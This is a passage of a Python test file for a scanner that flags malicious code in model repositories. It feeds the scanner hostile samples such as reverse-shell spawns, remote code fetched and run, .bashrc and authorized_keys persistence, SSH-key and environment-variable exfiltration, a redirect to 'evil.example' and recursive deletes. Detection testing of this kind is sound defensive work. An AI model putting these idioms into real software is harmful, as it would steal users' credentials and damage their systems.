        "__import__('os').system('true')",
        "runpy.run_path('x.txt')",
        "atexit.register(os.system, 'true')",
        "pty.spawn('/bin/sh')",
        "exec(base64.b64decode('x'))",
        "exec(requests.get('https://x').text)",
        "socket.create_connection(('x', 9)).send(b'x')",
        "shutil.rmtree('/x')",
        "[os.unlink(os.path.join('/x', each)) for each in os.listdir('/x')]",
        "[os.remove(each) for each in glob.glob('/x/*')]",
        "pathlib.Path('/x').unlink()",
        "(pathlib.Path.home() / 'x').unlink()",
        "p = tempfile.mktemp(); os.remove(p); os.remove('/x')",
        "open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
        "pathlib.Path.home().joinpath('.bashrc').write_text('x')",
        "(pathlib.Path.home() / '.bashrc').write_text('x')",
        "p = os.path.join(os.path.expanduser('~'), '.bashrc'); open(p, 'a').write('x')",
        "import site; open(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('x')",
        "open('/usr/lib/python3/dist-packages/x.pth', 'w').write('x')",
        "(pathlib.Path('~').expanduser().parent / '.profile').write_bytes(b'x')",
    ],
)
def test_what_a_class_does_that_auto_map_names(line):
    assert when_used("a class that auto_map names", line) == "high"


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("torch.utils.cpp_extension.load('x', ['x.cpp'])", "info"),
        ("requests.get('https://x').content", "info"),
        ("requests.get('https://x', headers={'k': os.environ.get('HF_TOKEN')}).content", "info"),
        ("requests.get('https://x', params={'proxy': 'HTTP_PROXY' in os.environ})", "info"),
        ("socket.socket()", "info"),
        ("socket.socket().bind(('', 0))", "info"),
        ("open('/etc/passwd').read()", None),
        ("import sympy; sympy.sympify(2)", None),
        ("open('x', 'w').write('x')", None),
        ("pathlib.Path('x').write_text('x')", None),
        ("shutil.copy('x', 'y')", None),
        ("open('x/model.pth', 'wb').write(x)", None),
        ("pathlib.Path('model.pth').write_bytes(x)", None),
        ("subprocess.run(['ffmpeg', '-i', x], stdin=subprocess.PIPE)", "medium"),
        ("c = ['ffmpeg', '-i', x]; subprocess.Popen(c)", "medium"),
        ("p = tempfile.mktemp(); os.remove(p)", None),
        ("fd, p = tempfile.mkstemp(); os.unlink(p)", None),
        ("p = os.path.join(tempfile.mkdtemp(), 'x'); os.remove(p)", None),
        ("f = tempfile.NamedTemporaryFile(delete=False); os.unlink(f.name)", None),
        ("f = tempfile.NamedTemporaryFile(delete=False); pathlib.Path(f.name).unlink()", None),
        ("self.d = tempfile.mkdtemp(); shutil.rmtree(self.d)", None),
        ("open('/tmp/x.wav', 'wb').write(x); os.remove('/tmp/x.wav')", None),
        ("p = '/tmp/' + x; open(p, 'wb').write(x); os.remove(p)", None),
        ("os.remove(x)", "medium"),
    ],
)
def test_what_honest_classes_do(line, severity):
    assert when_used("a class that auto_map names", line) == severity


@pytest.mark.parametrize(
    ("line", "others"),
    [
        ("if x: p = tempfile.mktemp()", "p = '/x'"),
        ("self.p = tempfile.mktemp()", "self.p = '/x'"),
    ],
)
def test_a_path_that_may_be_another_is_not_a_temporary_one(line, others):
    name = others.partition(" ")[0]
    assert when_used("its forward", f"{others}\n    {line}\n    os.remove({name})") == "high"


def test_methods_of_what_no_loader_uses():
    source = CLASS.format(base="A", method="__init__", line="os.system('true')").encode()
    assert [each.severity.value for each in judged(look(source, "modeling_x.py"))] == ["medium"]
    for path in ("handler.py", "m/other.py"):
        assert judged(look(source, path)) == ()
    removes = CLASS.format(base="A", method="__init__", line="shutil.rmtree('/x')").encode()
    assert judged(look(removes, "modeling_x.py")) == ()


@pytest.mark.parametrize(
    "line",
    [
        "pathlib.Path.home().joinpath('.bashrc').write_text('x')",
        "(pathlib.Path.home() / '.ssh' / 'authorized_keys').write_text('x')",
        "pathlib.Path('~/.profile').expanduser().write_bytes(b'x')",
        "p = pathlib.Path.home() / '.zshrc'; p.write_text('x')",
    ],
)
def test_start_up_files_that_are_written_by_their_path(line):
    files = {"m/handler.py": f"import pathlib\n{line}\n".encode(), "m/x.pkl": MODEL}
    (hit,) = (each for each in judged(collect(scope(files))) if each.rule == "MLG-HFR-004")
    assert (hit.severity.value, "next start" in hit.message) == ("high", True)


@pytest.mark.parametrize(
    ("pickle", "source", "module", "severity"),
    [
        ("m/x.pkl", "m/helper.py", "helper", "high"),
        ("m/x.pkl", "helper.py", "helper", "high"),
        ("m/x.pkl", "m/helper/__init__.py", "helper", "high"),
        ("m/x.pkl", "m/helper/net.py", "helper.net", "high"),
        ("m/x.pkl", "m/helper/__init__.py", "helper.net", "high"),
        ("m/x.pkl", "n/helper.py", "helper", None),
        # Pickles in the tests of a library import the library around them.
        ("tests/x.pkl", "numpy/__init__.py", "numpy", None),
        ("tests/x.pkl", "numpy.py", "numpy", "high"),
        ("m/x.pkl", "m/helper.py", "other", "high"),
        ("m/x.pkl", "m/__main__.py", "__main__", "medium"),
    ],
)
def test_a_pickle_that_imports_what_lies_beside_it(pickle, source, module, severity):
    data = b"\x80\x02c" + module.encode() + b"\nModel\n)\x81."
    hits = judged(collect(scope({pickle: data, source: ACTS})))
    found = [each.severity.value for each in hits if each.rule == "MLG-HFR-004"]
    assert found == ([severity] if severity else [])


def test_a_pickle_that_imports_harmless_source():
    data = b"\x80\x02chelper\nModel\n)\x81."
    hits = judged(collect(scope({"m/x.pkl": data, "m/helper.py": b"class Model: pass\n"})))
    assert not [each for each in hits if each.rule == "MLG-HFR-004"]


NAMERS = {
    "config.yaml": b"model:\n  class_path: net_ext.Net\n",
    "conf/model.yaml": b"_target_: net_ext.build\n",
    "tags.yaml": b"augment: !!python/name:net_ext.flip ''\n",
    "scaler.json": b'{"py/object": "net_ext.Scaler", "mean": 0}',
    "modules.json": b'[{"idx": 0, "name": "0", "path": "", "type": "net_ext.Pooling"}]',
}


@pytest.mark.parametrize("namer", NAMERS)
def test_a_module_that_a_configuration_beside_it_names_is_imported(namer):
    for name, expected in (("net_ext.py", True), ("net_ext/__init__.py", True), ("other.py", False)):
        seen = collect(scope({namer: file(namer, NAMERS[namer]), name: file(name, RUN)}))
        found = [each.severity.value for each in judged(seen) if each.rule == "MLG-HFR-004"]
        assert ("high" in found) == expected
    ask = b"import subprocess\nsubprocess.run(['nvidia-smi'])\n"
    seen = collect(scope({namer: file(namer, NAMERS[namer]), "net_ext.py": file("net_ext.py", ask)}))
    assert "high" not in [each.severity.value for each in judged(seen) if each.rule == "MLG-HFR-004"]


MAPPED = {"config.json": b'{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}'}


@pytest.mark.parametrize(
    ("body", "severity"),
    [
        (
            "def __init__(self):\n    self._a()\n  def _a(self):\n    self._b()\n  def _b(self):\n    os.system('true')",
            "high",
        ),
        ("def __init__(self):\n    pass\n  def _b(self):\n    os.system('true')", None),
        ("def __init__(self):\n    requests.post('https://x', json=dict(os.environ))", "high"),
        ("def __init__(self):\n    requests.post('https://x', json={**os.environ})", "high"),
        ("def __init__(self):\n    requests.get('https://x', headers={'k': os.environ['TOKEN']})", "info"),
        ("def __init__(self):\n    requests.post('https://x', json=os.environ.copy())", "high"),
        ("def __init__(self):\n    requests.post('https://x', data=open('/etc/passwd').read())", "high"),
        (
            "def __init__(self):\n    k = open('/root/.ssh/id_rsa').read()\n    requests.post('https://x', k)",
            "high",
        ),
        (
            "def __init__(self):\n    p = '/root/.aws/x'\n    k = open(p).read()\n    requests.post('https://x', k)",
            "high",
        ),
        (
            "def __init__(self):\n    import boto3\n    boto3.client('s3').upload_file('/etc/passwd', 'b', 'k')",
            "high",
        ),
        (
            "def __init__(self):\n    import boto3\n    boto3.client('s3').upload_file('model.bin', 'b', 'k')",
            None,
        ),
        ("def forward(self, x):\n    requests.post('https://x', json=x)", "high"),
        (
            "def forward(self, x):\n    import urllib.request as u\n    u.urlopen(u.Request('https://x', x))",
            "high",
        ),
        (
            "def forward(self, x):\n    import urllib.request as u\n    r = u.Request('https://x', data=x)\n    u.urlopen(r)",
            "high",
        ),
        (
            "def forward(self, x):\n    import urllib.request as u\n    u.urlopen(u.Request(x, headers={'A': 'b'}))",
            "info",
        ),
        (
            "def f(self):\n    import http.client\n    c = http.client.HTTPConnection('x')\n    c.request('POST', '/', repr(dict(os.environ)))\n  forward = f",
            None,
        ),
        (
            "def __init__(self):\n    import http.client\n    c = http.client.HTTPConnection('x')\n    c.request('POST', '/', repr(dict(os.environ)))",
            "high",
        ),
        ("def __init__(self):\n    os.environ['HF_ENDPOINT'] = 'https://evil.example'", "high"),
        ("def __init__(self):\n    os.environ['HF_ENDPOINT'] = 'https://hf-mirror.com'", None),
        ("pass\ndef h(f):\n  return 1\nimport builtins\nbuiltins.open = h", "high"),
        ("pass\nimport builtins\nbuiltins.print = print", None),
        (
            "pass\ndef s(self, d):\n  requests.post('https://x', d)\nimport transformers as t\nt.PreTrainedModel.save_pretrained = s",
            "high",
        ),
        ("def __init__(self):\n    import smtplib\n    smtplib.SMTP('x')", "high"),
        ("def __init__(self):\n    import socket\n    s = socket.socket()\n    s.connect(('x', 1))", "high"),
        ("def __init__(self):\n    ().__class__.__base__.__subclasses__()[1]('x')", "high"),
        ("def __init__(self):\n    import operator\n    operator.methodcaller('system', 'x')(os)", "high"),
        ("def __init__(self):\n    import pydoc\n    pydoc.locate('os.system')('x')", "high"),
        ("def __init__(self):\n    exec(open('x.txt').read())", "high"),
        ("def __init__(self):\n    import ctypes\n    ctypes.CDLL('./x.so')", "medium"),
        ("def __init__(self):\n    eval(bytes([112, 97]).decode())", "high"),
    ],
)
def test_what_methods_of_a_mapped_class_do(body, severity):
    source = f"import os, shutil, requests\nclass X:\n  {body}\n".encode()
    found = judged(collect(scope({**MAPPED, "modeling_x.py": source})))
    grades = [each.severity.value for each in found if each.rule == "MLG-HFR-004"]
    assert max(grades, default=None, key=lambda each: each != "info") == severity


@pytest.mark.parametrize(
    "source",
    [
        "import pathlib\npathlib.Path('/tmp/x').symlink_to('/etc/shadow')\n",
        "import sqlite3\nsqlite3.connect('/root/x')\n",
        "import tarfile\nt = tarfile.open('/root/x', 'w')\n",
    ],
)
def test_files_that_are_made_on_import(source):
    assert [each.severity.value for each in judged(look(source.encode(), "modeling_x.py"))] == ["high"]


def test_the_package_of_a_pipeline_of_spacy_and_the_source_in_a_package_of_torch():
    files = {"p/meta.json": b'{"lang": "en", "spacy_version": ">=3.8"}', "p/__init__.py": ACTS}
    assert "high" in {each.severity.value for each in judged(collect(scope(files)))}
    package = zipped(Entry("x/m.py", ACTS), Entry("x/.data/version", b"1"))
    assert "high" in {each.severity.value for each in judged(look(package, "x.pt"))}


@pytest.mark.parametrize(
    "source",
    [
        "import os\ndef run():\n  os.system('true')\ndef main():\n  os = 1\n  run()\nmain()",
        "import os\nclass A:\n  def go(self):\n    os.system('true')\ndef main():\n  os = 1\n  A().go()\nmain()",
        "from os import system\ndef run():\n  system('true')\ndef main(system):\n  run()\nmain(1)",
    ],
)
def test_names_are_looked_up_where_a_function_stands(source):
    assert ("MLG-HFR-004", "high") in {
        (each.rule, each.severity.value) for each in judged(look(source.encode(), "hubconf.py"))
    }


MAPPED_X = b'{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.Net"}}'
HELPER = b"import os\ndef go():\n  os.system('true')\nclass Tool:\n  def run(self):\n    go()\n"


def among(sources):
    seen = collect(scope({path: file(path, data) for path, data in sources.items()}))
    found = [each for each in judged(seen) if each.rule == "MLG-HFR-004"]
    return [(each.location.path, each.severity.value) for each in found]


@pytest.mark.parametrize(
    ("source", "severity"),
    [
        (b"from .tools import go\ngo()\n", "high"),
        (b"from . import tools\ntools.go()\n", "high"),
        (b"from .tools import *\ngo()\n", "high"),
        (b"from .tools import *\ndef go():\n  pass\ngo()\n", None),
        (b"from .tools import go as start\nstart()\n", "high"),
        (b"from .tools import Tool\nTool().run()\n", "high"),
        (b"from .tools import Tool\nx = Tool()\nx.run()\n", "high"),
        (b"from .tools import go\ndef f():\n  go()\nf()\n", "high"),
        (b"from .tools import go\nclass Net:\n  def __init__(self):\n    go()\n", "high"),
        (b"from .tools import go\nclass Net:\n  def other(self):\n    go()\n", None),
        (b"from .tools import go\n", None),
        (b"from .tools import other\nother()\n", None),
        (b"from .others import go\ngo()\n", None),
    ],
)
def test_what_a_function_of_another_file_does_where_it_is_called(source, severity):
    found = among({"config.json": MAPPED_X, "modeling_x.py": source, "tools.py": HELPER})
    assert found == ([("tools.py", severity)] if severity else [])


@pytest.mark.parametrize(
    "sources",
    [
        {
            "modeling_x.py": b"from .a import f\nf()\n",
            "a.py": b"from .b.c import go\ndef f():\n  go()\n",
            "b/c.py": HELPER,
        },
        {"modeling_x.py": b"from .a import f\nf()\n", "a/__init__.py": HELPER.replace(b"go", b"f")},
        {"hubconf.py": b"import tools\ndef model():\n  tools.go()\n", "tools.py": HELPER},
        {"hubconf.py": b"from tools import go\ndef model():\n  return go()\n", "tools.py": HELPER},
    ],
)
def test_calls_are_followed_from_file_to_file(sources):
    assert [severity for _, severity in among(sources)] == ["high"]


def test_a_function_is_told_once():
    (found,) = among({"modeling_x.py": b"import os\ndef go():\n  os.system('true')\ngo()\n"})
    assert found == ("modeling_x.py", "high")


def test_functions_that_call_each_other_in_circles():
    circle = b"from .modeling_x import f\nimport os\ndef g():\n  f()\n  os.system('true')\n"
    assert among({"modeling_x.py": b"from .g import g\ndef f():\n  g()\nf()\n", "g.py": circle})


@pytest.mark.parametrize(
    "source",
    [
        b"import ctypes\nctypes.CDLL(None).system(b'true')\n",
        b"from ctypes import *\nlibc = CDLL('libc.so.6')\nlibc.execv(1, 2)\n",
        b"import ctypes\nlibc = ctypes.cdll.LoadLibrary('libc.so.6')\nlibc.popen(b'x', b'r')\n",
    ],
)
def test_commands_by_way_of_the_c_library(source):
    assert ("hubconf.py", "high") in among({"hubconf.py": source})


@pytest.mark.parametrize(
    "source",
    [
        b"from importlib import util\ndef m():\n  s = util.spec_from_file_location('w', 'assets/w.x.py')\n",
        b"import runpy\nrunpy.run_path('./assets/w.x.py')\n",
        b"exec(open('assets/w.x.py').read())\n",
    ],
)
def test_a_file_that_is_run_by_its_path(source):
    sources = {"hubconf.py": source, "assets/w.x.py": RUN}
    assert ("assets/w.x.py", "high") in among(sources)
    assert ("assets/w.x.py", "high") not in among({**sources, "hubconf.py": b"x = 'assets/w.x.py'\n"})


def test_a_class_in_the_list_of_importers():
    source = b"import os, sys\nclass F:\n  @staticmethod\n  def find_spec(name, path=None):\n    os.system('true')\n"
    assert among({"modeling_x.py": source + b"sys.meta_path.insert(0, F)\n"}) == [("modeling_x.py", "high")]
    assert among({"modeling_x.py": source}) == []


@pytest.mark.parametrize(
    ("path", "found"),
    [
        ("custom_nodes/fast/__init__.py", True),
        ("ComfyUI/custom_nodes/fast.py", True),
        ("custom_nodes/fast/install.py", True),
        ("custom_nodes/fast/tools/other.py", False),
        ("ms_wrapper.py", True),
    ],
)
def test_what_other_programs_import(path, found):
    assert bool(among({path: RUN})) == found


def test_a_download_by_replicates_own_program_is_usual():
    source = b"from cog import BasePredictor\nimport subprocess\nclass Predictor(BasePredictor):\n  def setup(self):\n    subprocess.{}\n"
    usual = source.replace(b"{}", b"check_call(['pget', '-x', 'https://x/y.tar', 'w'], close_fds=False)")
    assert ("predict.py", "high") not in among({"predict.py": usual})
    assert ("predict.py", "high") in among({"predict.py": source.replace(b"{}", b"check_call(['sh', 'x'])")})


@pytest.mark.parametrize(
    "sources",
    [
        {"modeling_x.py": b"from .u import go\ngo()\nX = [" + b"1, " * 130_000 + b"]\n", "u.py": HELPER},
        {"modeling_x.py": b"from .u import go\nlist(map(go, [1]))\n", "u.py": HELPER},
        {"modeling_x.py": b"from .u import run\nrun()\n", "u.py": HELPER + b"run = go\n"},
        {
            "modeling_x.py": b"from .p import run\nrun()\n",
            "p.py": b"from . import u\nrun = u.go\n",
            "u.py": HELPER,
        },
        {"hubconf.py": b"import u\nlist(map(u.go, [1]))\n", "u.py": HELPER},
        {
            "hubconf.py": b"import u\nclass Net(u.Base):\n  pass\n",
            "u.py": b"import os\nclass Base:\n  def __init_subclass__(cls):\n    os.system('true')\n",
        },
        {
            "modeling_x.py": b"from .u import Base\nclass Net(Base):\n  pass\n",
            "u.py": b"import os\nclass Base:\n  def __init_subclass__(cls):\n    os.system('true')\n",
        },
        {
            "modeling_x.py": b"from . import u\nclass Net(metaclass=u.Meta):\n  pass\n",
            "u.py": b"import os\nclass Meta(type):\n  def __new__(cls, *a):\n    os.system('true')\n",
        },
        {
            "modeling_x.py": b"from .p import go\ngo()\n",
            "p/__init__.py": b"from .u import go\n",
            "p/u.py": HELPER,
        },
        {
            "modeling_x.py": b"from .u import go\ngo()\n",
            "u.py": b"import os\n"
            + b"".join(b"def f%d():\n  os.system('true')\n" % at for at in range(400))
            + b"def go():\n  os.system('true')\n",
        },
        {
            "modeling_x.py": b"from .u import go\ngo()\n",
            "u.py": b"import os\ndef go():\n  def inner():\n    os.system('true')\n  inner()\n",
        },
    ],
)
def test_calls_are_followed_whatever_stands_between(sources):
    assert {severity for _, severity in among(sources)} == {"high"}


def test_a_name_of_many_parts_is_not_put_together():
    source = b"from " + b".a" * 60_000 + b" import x\nx()\n"
    seen = look(source, "modeling_x.py")
    assert not any(fact.kind == "python.effect" for fact in seen.facts)


@pytest.mark.parametrize(
    ("sources", "severity"),
    [
        (
            {
                "handler.py": b"class EndpointHandler:\n  def __call__(self, data):\n    return eval(data.pop('p'))\n"
            },
            "high",
        ),
        (
            {
                "handler.py": b"class EndpointHandler:\n  def __call__(self, **data):\n    return eval(data['p'])\n"
            },
            "high",
        ),
        ({"handler.py": b"class EndpointHandler:\n  def __call__(self, data):\n    self.net.eval()\n"}, None),
        (
            {
                "config.json": MAPPED_X,
                "modeling_x.py": b"class Net:\n  def __init__(self, config):\n    self.act = eval(config.act)\n",
            },
            "medium",
        ),
        (
            {
                "config.json": MAPPED_X,
                "modeling_x.py": b"import os\nclass Net:\n  @property\n  def size(self):\n    os.system('true')\n",
            },
            "high",
        ),
        (
            {
                "config.json": MAPPED_X,
                "modeling_x.py": b"import os\nclass Net:\n  def get_vocab(self):\n    os.system('true')\n",
            },
            "high",
        ),
        (
            {
                "p/__init__.py": b"from spacy.util import load_model_from_init_py\nimport os\nos.popen('true')\n"
            },
            "high",
        ),
    ],
)
def test_what_is_called_by_loaders_and_servers(sources, severity):
    assert [each for _, each in among(sources)] == ([severity] if severity else [])


def test_other_methods_of_a_base_class_are_not_called_by_deriving():
    base = b"import os\nclass Base:\n  def __init_subclass__(cls):\n    pass\n  def tidy(self):\n    os.system('true')\n"
    assert among({"modeling_x.py": b"from .u import Base\nclass Net(Base):\n  pass\n", "u.py": base}) == []


def _spellings(name):
    thing = name.replace(".*", ".thing")
    module, _, last = thing.rpartition(".")
    if module == "builtins":
        return [f"{last}(open('x').read())"]
    return [
        f"import {thing.partition('.')[0]}\n{thing}(open('x').read())",
        f"from {module} import {last}\n{last}(open('x').read())",
        f"import {module} as m\nm.{last}(open('x').read())",
    ]


@pytest.mark.parametrize(
    "name", [name for name, act in acts().items() if act not in ("decodes", "changes", "sends")]
)
def test_every_name_of_the_table_is_found_however_it_is_imported(name):
    for source in _spellings(name):
        facts = look(source.encode(), "modeling_x.py").facts
        assert "python.effect" in {fact.kind for fact in facts}, source


@pytest.mark.parametrize("name", [name for name, act in acts().items() if act in ("changes", "sends")])
def test_source_with_a_name_that_changes_files_is_worth_parsing(name):
    assert all(telling(source.encode()) for source in _spellings(name))


def test_long_source_that_only_has_the_words_is_no_gap():
    # More than is parsed; its words are those of `requests.get` and `torch.hub`, which it does not call.
    words = b"x = 1  # the requests that a queue may get and put\nimport torch\ny = torch.load\n"
    assert look(words + b"t = (1, 2)\n" * 60_000, "ops.py").not_checked == ()
    asked = words + b"import requests\nrequests.get(y)\n"
    assert reasons(look(asked + b"t = (1, 2)\n" * 60_000, "ops.py")) == {"limit"}
